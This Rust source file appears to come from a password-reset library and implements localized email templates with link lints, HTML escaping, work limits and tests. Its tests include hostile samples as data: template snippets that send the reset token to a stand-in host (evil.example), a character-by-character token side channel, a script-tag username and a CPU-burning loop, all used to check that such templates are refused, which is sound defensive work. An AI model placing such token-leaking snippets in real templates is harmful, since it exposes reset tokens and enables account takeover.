//! Email templates (subject, plain text, HTML; per locale with fallback),
//! rendered by minijinja with HTML auto-escaping in HTML bodies.
//!
//! Templates are checked when the service is built: each body must carry
//! its links (the text body with the full URL alone on a line, so it can be
//! copied into a browser; the HTML body as the `href` of a visible `<a>`,
//! found by parsing the rendered HTML as a mail client would, so a link in
//! a comment or a hidden element does not count), and the subject must not
//! carry a token. Every email is rendered for several sample accounts (odd,
//! long, right-to-left usernames, markup characters) and for the service's
//! real site name, so a link that appears only for one sample does not pass.
//! A template that drops the link fails the build.
//!
//! ```
//! use resetkit::template::{Templates, TemplateSource};
//!
//! let mut templates = Templates::english();
//! let broken = TemplateSource::new("Reset", "Hello {{ username }}, no link here", "<p>{{ link }}</p>");
//! templates.locale_mut("en").reset = broken;
//! let links = resetkit::link::LinkBuilder::new("https://a.example", "/reset", Default::default(), false).unwrap();
//! let err = templates.compile(&links, &links, "https://a.example/security").unwrap_err();
//! assert!(err.to_string().contains("reset.text"));
//! ```

use std::collections::BTreeMap;

use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value, context};

use crate::error::BuildError;
use crate::link::LinkBuilder;
use crate::mail::{EmailKind, MailContent};

mod confine;
mod lint;
mod store;
mod subset;

use lint::LintSamples;
pub use lint::sample_usernames;
pub use store::{InMemoryTemplateStore, TemplateStore, TemplateVersion, apply_stored};

/// One email's template: subject, text body, HTML body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TemplateSource {
    /// Subject line template.
    pub subject: String,
    /// Plain-text body template.
    pub text: String,
    /// HTML body template (auto-escaped).
    pub html: String,
}

impl TemplateSource {
    /// Builds a template source.
    pub fn new(subject: impl Into<String>, text: impl Into<String>, html: impl Into<String>) -> Self {
        TemplateSource {
            subject: subject.into(),
            text: text.into(),
            html: html.into(),
        }
    }
}

/// The four emails of one locale.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LocaleTemplates {
    /// Reset link for one account. Variables: `site_name`, `username`,
    /// `link`, `deny_link`, `expires_minutes`.
    pub reset: TemplateSource,
    /// One email for several accounts sharing an address. Variables:
    /// `site_name`, `accounts` (each with `username`, `link`, `deny_link`),
    /// `expires_minutes`.
    pub reset_combined: TemplateSource,
    /// Several accounts share the address and a username is required.
    /// Variables: `site_name`, `usernames`.
    pub username_required: TemplateSource,
    /// "Your password was changed." Variables: `site_name`, `username`,
    /// `security_link`.
    pub password_changed: TemplateSource,
}

/// Templates by locale, with a default locale to fall back to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Templates {
    default_locale: String,
    locales: BTreeMap<String, LocaleTemplates>,
}

impl Templates {
    /// The built-in English templates, as locale `en` (the default).
    pub fn english() -> Self {
        let mut locales = BTreeMap::new();
        locales.insert("en".to_owned(), english());
        Templates {
            default_locale: "en".into(),
            locales,
        }
    }

    /// Adds or replaces a locale (e.g. `fr`, `pt-br`; matched case-insensitively).
    pub fn with_locale(mut self, locale: &str, templates: LocaleTemplates) -> Self {
        self.locales.insert(locale.to_ascii_lowercase(), templates);
        self
    }

    /// The templates of a locale, created from the default's if absent.
    pub fn locale_mut(&mut self, locale: &str) -> &mut LocaleTemplates {
        let fallback = self
            .locales
            .get(&self.default_locale)
            .cloned()
            .unwrap_or_else(english);
        self.locales
            .entry(locale.to_ascii_lowercase())
            .or_insert(fallback)
    }

    /// The locales, default first then by name.
    pub fn locales(&self) -> Vec<&str> {
        let mut names: Vec<&str> = vec![self.default_locale.as_str()];
        names.extend(
            self.locales
                .keys()
                .map(String::as_str)
                .filter(|l| *l != self.default_locale),
        );
        names
    }

    /// The templates of `locale` (as given to [`with_locale`](Self::with_locale)), if any.
    pub fn locale(&self, locale: &str) -> Option<&LocaleTemplates> {
        self.locales.get(&locale.to_ascii_lowercase())
    }

    /// Renders one email of `locale` with `values`, **without** the link
    /// lint (for a preview of a template that may be broken; run
    /// [`compile_for_site`](Self::compile_for_site) for the verdict).
    pub fn render_unchecked(
        &self,
        locale: &str,
        kind: EmailKind,
        values: &Value,
    ) -> Result<MailContent, RenderError> {
        let Some(set) = self.locale(locale) else {
            return Err(RenderError {
                template: format!("{locale}/{}", kind.as_str()),
                reason: format!("locale `{locale}` has no templates"),
            });
        };
        let source = set.get(kind);
        let env = environment();
        let mut parts = Vec::with_capacity(3);
        for (part, text) in [
            ("subject", &source.subject),
            ("text", &source.text),
            ("html", &source.html),
        ] {
            let name = template_name(locale, kind, part);
            subset::check_source(text).map_err(|reason| RenderError {
                template: name.clone(),
                reason,
            })?;
            let rendered = env
                .template_from_named_str(&name, text)
                .and_then(|t| t.render(values))
                .map_err(|e| render_error(&name, &e))?;
            parts.push(rendered);
        }
        let html = parts.pop().unwrap_or_default();
        let text = parts.pop().unwrap_or_default();
        let subject = parts.pop().unwrap_or_default();
        Ok(MailContent {
            subject: subject.split_whitespace().collect::<Vec<_>>().join(" "),
            text,
            html,
        })
    }

    /// Sets the default locale (must exist).
    pub fn with_default_locale(mut self, locale: &str) -> Self {
        self.default_locale = locale.to_ascii_lowercase();
        self
    }

    /// Parses and validates every template (see the module docs), rendering
    /// with the sample site name "Sample Site" and 30-minute links.
    pub fn compile(
        &self,
        reset_links: &LinkBuilder,
        deny_links: &LinkBuilder,
        security_link: &str,
    ) -> Result<CompiledTemplates, BuildError> {
        self.compile_for_site(reset_links, deny_links, security_link, "Sample Site", 30)
    }

    /// Parses and validates every template, rendering each email for the
    /// real `site_name` and link lifetime as well as for sample values, and
    /// for several sample accounts ([`sample_usernames`]).
    pub fn compile_for_site(
        &self,
        reset_links: &LinkBuilder,
        deny_links: &LinkBuilder,
        security_link: &str,
        site_name: &str,
        expires_minutes: u64,
    ) -> Result<CompiledTemplates, BuildError> {
        if !self.locales.contains_key(&self.default_locale) {
            return Err(BuildError::invalid(
                "templates.default_locale",
                format!("locale `{}` has no templates", self.default_locale),
            ));
        }
        let mut env = environment();
        for (locale, set) in &self.locales {
            for (kind, source) in set.sources() {
                for (part, text) in [
                    ("subject", &source.subject),
                    ("text", &source.text),
                    ("html", &source.html),
                ] {
                    subset::check_source(text)
                        .map_err(|reason| template_error(locale, kind, part, reason))?;
                    let name = template_name(locale, kind, part);
                    env.add_template_owned(name, text.clone())
                        .map_err(|e| template_error(locale, kind, part, e.to_string()))?;
                }
            }
        }
        let compiled = CompiledTemplates {
            env,
            default_locale: self.default_locale.clone(),
            locales: self.locales.keys().cloned().collect(),
        };
        let samples = LintSamples {
            reset_links,
            deny_links,
            security_link,
            site_name,
            expires_minutes,
        };
        for locale in &compiled.locales {
            compiled.check_locale(locale, &samples)?;
        }
        Ok(compiled)
    }
}

impl LocaleTemplates {
    /// The template of one email.
    pub fn get(&self, kind: EmailKind) -> &TemplateSource {
        match kind {
            EmailKind::ResetCombined => &self.reset_combined,
            EmailKind::UsernameRequired => &self.username_required,
            EmailKind::PasswordChanged => &self.password_changed,
            _ => &self.reset,
        }
    }

    /// Replaces the template of one email.
    pub fn set(&mut self, kind: EmailKind, source: TemplateSource) {
        match kind {
            EmailKind::ResetCombined => self.reset_combined = source,
            EmailKind::UsernameRequired => self.username_required = source,
            EmailKind::PasswordChanged => self.password_changed = source,
            _ => self.reset = source,
        }
    }

    fn sources(&self) -> [(EmailKind, &TemplateSource); 4] {
        [
            (EmailKind::Reset, &self.reset),
            (EmailKind::ResetCombined, &self.reset_combined),
            (EmailKind::UsernameRequired, &self.username_required),
            (EmailKind::PasswordChanged, &self.password_changed),
        ]
    }
}

/// The most template steps one rendering of one email part may take
/// (minijinja's fuel). The shipped templates take a few hundred; a combined
/// email takes a few dozen more per account. A template that loops over
/// large ranges is refused when it is saved, and can never make every
/// later mail burn CPU.
pub const TEMPLATE_FUEL: u64 = 100_000;

/// The environment every template is parsed and rendered in: strict
/// undefined values, HTML escaping for `.html` parts, bounded work.
fn environment() -> Environment<'static> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_formatter(html_formatter);
    env.set_auto_escape_callback(|name| {
        if name.ends_with(".html") {
            AutoEscape::Html
        } else {
            AutoEscape::None
        }
    });
    env.set_fuel(Some(TEMPLATE_FUEL));
    env
}

fn render_error(name: &str, e: &minijinja::Error) -> RenderError {
    let reason = if e.kind() == minijinja::ErrorKind::OutOfFuel {
        format!(
            "does too much work: rendering one email may take at most {TEMPLATE_FUEL} template steps \
             (loops over large ranges are refused)"
        )
    } else {
        e.to_string()
    };
    RenderError {
        template: name.to_owned(),
        reason,
    }
}

fn template_name(locale: &str, kind: EmailKind, part: &str) -> String {
    format!("{locale}/{}.{part}", kind.as_str())
}

fn template_error(locale: &str, kind: EmailKind, part: &str, reason: impl Into<String>) -> BuildError {
    BuildError::Template {
        template: format!("{}.{part}", kind.as_str()),
        locale: locale.to_owned(),
        reason: reason.into(),
    }
}

/// One account's entry in a combined email.
#[derive(Clone)]
pub struct AccountLinks {
    /// Username.
    pub username: String,
    /// Reset link.
    pub link: String,
    /// "This wasn't me" link.
    pub deny_link: String,
}

impl std::fmt::Debug for AccountLinks {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // The links carry live tokens.
        f.debug_struct("AccountLinks")
            .field("username", &self.username)
            .field("link", &describe(&self.link))
            .field("deny_link", &describe(&self.deny_link))
            .finish()
    }
}

/// Validated, ready-to-render templates.
#[derive(Debug)]
pub struct CompiledTemplates {
    env: Environment<'static>,
    default_locale: String,
    locales: Vec<String>,
}

/// Rendering failed at run time (should not happen after validation).
#[derive(Debug, Clone, thiserror::Error)]
#[error("rendering template `{template}` failed: {reason}")]
pub struct RenderError {
    /// Template name.
    pub template: String,
    /// What failed.
    pub reason: String,
}

impl CompiledTemplates {
    /// The locale used for `requested` (exact, then language, then default).
    pub fn resolve_locale(&self, requested: Option<&str>) -> &str {
        if let Some(req) = requested {
            let req = req.trim().to_ascii_lowercase().replace('_', "-");
            if let Some(found) = self.locales.iter().find(|l| **l == req) {
                return found;
            }
            let language = req.split('-').next().unwrap_or_default();
            if let Some(found) = self.locales.iter().find(|l| *l == language) {
                return found;
            }
        }
        &self.default_locale
    }

    /// Renders one email in `locale` (already resolved) with `ctx`.
    pub fn render(&self, locale: &str, kind: EmailKind, ctx: &Value) -> Result<MailContent, RenderError> {
        let part = |part: &str| -> Result<String, RenderError> {
            let name = template_name(locale, kind, part);
            self.env
                .get_template(&name)
                .and_then(|t| t.render(ctx))
                .map_err(|e| render_error(&name, &e))
        };
        let subject = part("subject")?.split_whitespace().collect::<Vec<_>>().join(" ");
        Ok(MailContent {
            subject,
            text: part("text")?,
            html: part("html")?,
        })
    }
}

fn describe(link: &str) -> String {
    // Name the link without printing the sample token.
    match link.find("token=") {
        Some(i) => format!("{}token=…", &link[..i]),
        None => link.to_owned(),
    }
}

/// Escapes `& < > " '` in HTML output and nothing else: minijinja's default
/// also turns `/` into `&#x2f;`, which leaves `https:&#x2f;&#x2f;…` in
/// hrefs that link scanners and mail gateways do not recognise.
fn html_formatter(
    out: &mut minijinja::Output<'_>,
    state: &minijinja::State<'_, '_>,
    value: &Value,
) -> Result<(), minijinja::Error> {
    if !matches!(
        value.kind(),
        minijinja::value::ValueKind::String
            | minijinja::value::ValueKind::Number
            | minijinja::value::ValueKind::Bool
            | minijinja::value::ValueKind::Undefined
            | minijinja::value::ValueKind::None
    ) {
        // A list or map prints all it holds in one step (see `subset`).
        return Err(minijinja::Error::new(
            minijinja::ErrorKind::InvalidOperation,
            format!("prints a {}: print its items in a loop", value.kind()),
        ));
    }
    if state.auto_escape() == AutoEscape::None || value.is_safe() {
        return minijinja::escape_formatter(out, state, value);
    }
    let text = value.to_string();
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            c => escaped.push(c),
        }
    }
    out.write_str(&escaped).map_err(|e| {
        minijinja::Error::new(minijinja::ErrorKind::WriteFailure, "cannot write template output")
            .with_source(e)
    })
}

impl CompiledTemplates {
    /// Renders a reset email for sending, and proves on this very mail what
    /// the lint proved on samples: it is rendered a second time with
    /// `twin` (the same accounts, other tokens), and the token may appear
    /// only in its links, with no remote resources. A template that acts
    /// only for real accounts (a long username, three accounts on one
    /// address, a token starting with `Q`) is caught here, and nothing is
    /// sent.
    pub(crate) fn render_confined(
        &self,
        locale: &str,
        kind: EmailKind,
        accounts: &[AccountLinks],
        twin: &[AccountLinks],
        site: &SiteValues<'_>,
    ) -> Result<MailContent, RenderError> {
        let rendered = self.render(locale, kind, &links_context(kind, site, accounts))?;
        let other = self.render(locale, kind, &links_context(kind, site, twin))?;
        let flat = |accounts: &[AccountLinks]| -> Vec<String> {
            accounts
                .iter()
                .flat_map(|a| [a.link.clone(), a.deny_link.clone()])
                .collect()
        };
        let (links, twin_links) = (flat(accounts), flat(twin));
        let links: Vec<&str> = links.iter().map(String::as_str).collect();
        let twin_links: Vec<&str> = twin_links.iter().map(String::as_str).collect();
        confine::check_rendered(&rendered, &other, &links, &twin_links, site.link_page).map_err(
            |(part, reason)| RenderError {
                template: template_name(locale, kind, part),
                reason: format!("refused when sending: {reason}"),
            },
        )?;
        Ok(rendered)
    }
}

/// What a reset email's context holds besides its accounts.
pub(crate) struct SiteValues<'a> {
    pub(crate) site_name: &'a str,
    pub(crate) expires_minutes: u64,
    /// The reset page (origin and path), for messages.
    pub(crate) link_page: &'a str,
}

/// The context of a reset email carrying `accounts`' links: `reset` for
/// one, `reset_combined` for several.
pub(crate) fn links_context(kind: EmailKind, site: &SiteValues<'_>, accounts: &[AccountLinks]) -> Value {
    match (kind, accounts) {
        (EmailKind::Reset, [one, ..]) => reset_context(site.site_name, one, site.expires_minutes),
        _ => combined_context(site.site_name, accounts, site.expires_minutes),
    }
}

pub(crate) use confine::link_page;

/// Context of the `reset` email.
pub fn reset_context(site_name: &str, links: &AccountLinks, expires_minutes: u64) -> Value {
    context! {
        site_name => site_name,
        username => links.username,
        link => links.link,
        deny_link => links.deny_link,
        expires_minutes => expires_minutes,
    }
}

/// Context of the `reset_combined` email.
pub fn combined_context(site_name: &str, accounts: &[AccountLinks], expires_minutes: u64) -> Value {
    let accounts: Vec<Value> = accounts
        .iter()
        .map(|a| context! { username => a.username, link => a.link, deny_link => a.deny_link })
        .collect();
    context! { site_name => site_name, accounts => accounts, expires_minutes => expires_minutes }
}

/// Context of the `username_required` email.
pub fn username_required_context(site_name: &str, usernames: &[String]) -> Value {
    context! { site_name => site_name, usernames => usernames }
}

/// Context of the `password_changed` email.
pub fn password_changed_context(site_name: &str, username: &str, security_link: &str) -> Value {
    context! { site_name => site_name, username => username, security_link => security_link }
}

fn english() -> LocaleTemplates {
    LocaleTemplates {
        reset: TemplateSource::new(
            "Reset your {{ site_name }} password",
            include_str!("templates/en/reset.txt"),
            include_str!("templates/en/reset.html"),
        ),
        reset_combined: TemplateSource::new(
            "Reset your {{ site_name }} password",
            include_str!("templates/en/reset_combined.txt"),
            include_str!("templates/en/reset_combined.html"),
        ),
        username_required: TemplateSource::new(
            "Your {{ site_name }} password reset request",
            include_str!("templates/en/username_required.txt"),
            include_str!("templates/en/username_required.html"),
        ),
        password_changed: TemplateSource::new(
            "Your {{ site_name }} password was changed",
            include_str!("templates/en/password_changed.txt"),
            include_str!("templates/en/password_changed.html"),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::link::TokenPlacement;
    use crate::token::RawToken;

    fn links() -> (LinkBuilder, LinkBuilder) {
        (
            LinkBuilder::new("https://a.example", "/reset", TokenPlacement::Query, false).unwrap(),
            LinkBuilder::new("https://a.example", "/reset/deny", TokenPlacement::Query, false).unwrap(),
        )
    }

    #[test]
    fn english_templates_are_valid() {
        let (r, d) = links();
        Templates::english()
            .compile(&r, &d, "https://a.example/security")
            .unwrap();
    }

    #[test]
    fn html_values_are_escaped() {
        let (r, d) = links();
        let t = Templates::english()
            .compile(&r, &d, "https://a.example/security")
            .unwrap();
        let token = RawToken::generate().unwrap();
        let links = AccountLinks {
            username: "<script>alert(1)</script>".into(),
            link: r.link(&token),
            deny_link: d.link(&token),
        };
        let out = t
            .render("en", EmailKind::Reset, &reset_context("Site & Co", &links, 30))
            .unwrap();
        assert!(!out.html.contains("<script>"));
        assert!(out.html.contains("&lt;script&gt;"));
        assert!(out.text.lines().any(|l| l.trim() == links.link));
        // Slashes stay slashes, so scanners and gateways see a plain URL.
        assert!(
            out.html.contains(&format!("href=\"{}\"", links.link)),
            "{}",
            out.html
        );
        assert!(!out.html.contains("&#x2f;"));
        assert!(out.html.contains("Site &amp; Co"));
    }

    #[test]
    fn broken_templates_fail_naming_template_and_locale() {
        let (r, d) = links();
        let mut t = Templates::english();
        t.locale_mut("fr").reset.html = "<p>{{ link }}</p> <a href=\"{{ deny_link }}\">x</a>".into();
        let err = t.compile(&r, &d, "https://a.example/security").unwrap_err();
        let text = err.to_string();
        assert!(text.contains("reset.html") && text.contains("`fr`"), "{text}");

        let mut t = Templates::english();
        t.locale_mut("en").reset.subject = "Your link {{ link }}".into();
        assert!(
            t.compile(&r, &d, "x")
                .unwrap_err()
                .to_string()
                .contains("reset.subject")
        );

        let mut t = Templates::english();
        t.locale_mut("en").reset.text = "{{ no_such_variable }}".into();
        assert!(
            t.compile(&r, &d, "x")
                .unwrap_err()
                .to_string()
                .contains("reset.render")
        );

        let mut t = Templates::english();
        t.locale_mut("en").password_changed.text = "Changed.".into();
        assert!(
            t.compile(&r, &d, "https://a.example/security")
                .unwrap_err()
                .to_string()
                .contains("password_changed.text")
        );
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]
        #[test]
        fn the_shipped_reset_email_keeps_its_link_for_any_username(username in ".{0,160}") {
            let (r, d) = links();
            let t = Templates::english()
                .compile(&r, &d, "https://a.example/security")
                .unwrap();
            let token = RawToken::generate().unwrap();
            let links = AccountLinks {
                username,
                link: r.link(&token),
                deny_link: d.link(&token),
            };
            let out = t
                .render("en", EmailKind::Reset, &reset_context("Site", &links, 30))
                .unwrap();
            let visible = lint::visible_links(&out.html);
            proptest::prop_assert!(visible.contains(&links.link), "{}", out.html);
            proptest::prop_assert!(visible.contains(&links.deny_link));
            proptest::prop_assert!(lint::text_has_link_alone(&out.text, &links.link));
        }
    }

    #[test]
    fn a_template_that_sends_the_token_elsewhere_is_refused() {
        let (r, d) = links();
        let base = "<p><a href=\"{{ link }}\">Reset</a> <a href=\"{{ deny_link }}\">not me</a></p>";
        for (extra, part, place) in [
            (
                "<img src=\"https://evil.example/p?{{ link }}\">",
                "reset.html",
                "evil.example",
            ),
            (
                "<a href=\"https://evil.example/?u={{ link|lower }}\">x</a>",
                "reset.html",
                "evil.example",
            ),
            (
                "<a href=\"https://a.example/help?{{ link[30:] }}\">help</a>",
                "reset.html",
                "a.example",
            ),
            (
                "{% if link[40] < 'M' %}<b>x</b>{% endif %}{% if link[41] < 'M' %}<i>y</i>{% endif %}\
              {% if link[42] < 'M' %}<u>z</u>{% endif %}{% if link[43] < 'M' %}<s>w</s>{% endif %}",
                "reset.html",
                "uses the link's token",
            ),
            ("<p>Or copy: {{ link }} now</p>", "reset.html", "text of a <p>"),
            (
                "<link rel=stylesheet href=\"https://cdn.example/a.css\">",
                "reset.html",
                "remote resource",
            ),
            (
                "<img src=\"https://cdn.example/logo.png\" alt=logo>",
                "reset.html",
                "remote resource",
            ),
        ] {
            let mut t = Templates::english();
            t.locale_mut("en").reset.html = format!("{base}{extra}");
            let err = t
                .compile(&r, &d, "https://a.example/security")
                .unwrap_err()
                .to_string();
            assert!(err.contains(part) && err.contains(place), "{extra}: {err}");
        }
        let mut t = Templates::english();
        t.locale_mut("en").reset.text =
            "{{ link }}\n\n{{ deny_link }}\nhttps://evil.example/?{{ link }}\n".into();
        let err = t
            .compile(&r, &d, "https://a.example/security")
            .unwrap_err()
            .to_string();
        assert!(err.contains("reset.text") && err.contains("line 4"), "{err}");
        // Allowed: the link as its own visible text, links elsewhere without it, inline images.
        let mut t = Templates::english();
        t.locale_mut("en").reset.html = format!(
            "{base}<p><a href=\"{{{{ link }}}}\">{{{{ link }}}}</a> <a href=\"https://a.example/help\">help</a>\
             <img src=\"data:image/png;base64,AAAA\" alt=\"\"></p>"
        );
        t.compile(&r, &d, "https://a.example/security").unwrap();
    }

    #[test]
    fn a_template_that_burns_cpu_is_refused() {
        let (r, d) = links();
        let mut t = Templates::english();
        t.locale_mut("en").reset.text =
            "{{ link }}\n\n{{ deny_link }}\n{% for i in range(2000) %}{% for j in range(2000) %}{% endfor %}{% endfor %}".into();
        let started = std::time::Instant::now();
        let err = t
            .compile(&r, &d, "https://a.example/security")
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("reset.render") && err.contains("too much work"),
            "{err}"
        );
        // Refused quickly (fuel), not after running the loops: not a timing
        // assert on a noisy machine, a bound three orders above the figure.
        assert!(started.elapsed() < std::time::Duration::from_secs(60));
    }

    #[test]
    fn locale_falls_back_to_language_then_default() {
        let (r, d) = links();
        let mut t = Templates::english();
        t.locale_mut("fr");
        let c = t.compile(&r, &d, "https://a.example/security").unwrap();
        assert_eq!(c.resolve_locale(Some("fr-CA")), "fr");
        assert_eq!(c.resolve_locale(Some("FR")), "fr");
        assert_eq!(c.resolve_locale(Some("de")), "en");
        assert_eq!(c.resolve_locale(None), "en");
    }
}
